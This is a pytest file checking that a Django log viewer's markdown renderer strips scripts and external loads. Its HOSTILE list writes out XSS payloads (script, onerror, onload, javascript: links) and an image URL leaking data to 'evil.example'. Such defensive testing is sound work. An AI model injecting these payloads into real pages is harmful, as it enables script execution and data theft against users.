"""Log content is hostile: whatever is written, nothing runs and nothing is fetched."""

import re

import pytest
from django.utils.safestring import SafeString

from logs.viewer import markdown
from logs.viewer.drawing import DrawingBudget

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![secret](https://evil.example/?q=stolen)",
    "![x][ref]\n\n[ref]: https://evil.example/p.png",
    "<svg/onload=alert(1)>",
    '<a href="https://x" style="position:fixed">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "```html\n<script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    '![a"onerror="alert(1)](https://evil.example/a"b)',
    "<style>@import 'https://evil.example/x.css'</style>",
]


def to_html(text: str) -> SafeString | None:
    return markdown.to_html(text, DrawingBudget())


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_and_nothing_loads(text: str) -> None:
    html = to_html(text)
    assert html is not None
    tags = {tag.lower() for tag in re.findall(r"<\s*([a-zA-Z0-9]+)", html)}
    assert tags <= {"p", "a", "pre", "code", "span", "div"}
    assert not re.search(r"<[^>]*\s(on\w+|style|src)\s*=", html)
    assert not re.search(r'href="(?!https?:|mailto:)', html)


def test_a_picture_is_named_with_its_address() -> None:
    assert to_html("![cat](https://pictures.example/cat.png)") == (
        '<p><a href="https://pictures.example/cat.png" target="_blank" rel="noopener noreferrer nofollow">[image: cat]</a></p>\n'
    )


def test_code_is_coloured_and_tables_are_tables() -> None:
    assert '<span class="k">def</span>' in to_html("```python\ndef f(): pass\n```")
    assert "<table>" in to_html("|a|b|\n|-|-|\n|1|2|")


def test_long_text_is_left_plain() -> None:
    assert to_html("a" * (markdown.MAX_CHARACTERS + 1)) is None


def test_deep_nesting_does_not_crash() -> None:
    to_html(">" * 50_000)
    to_html("[" * 50_000)
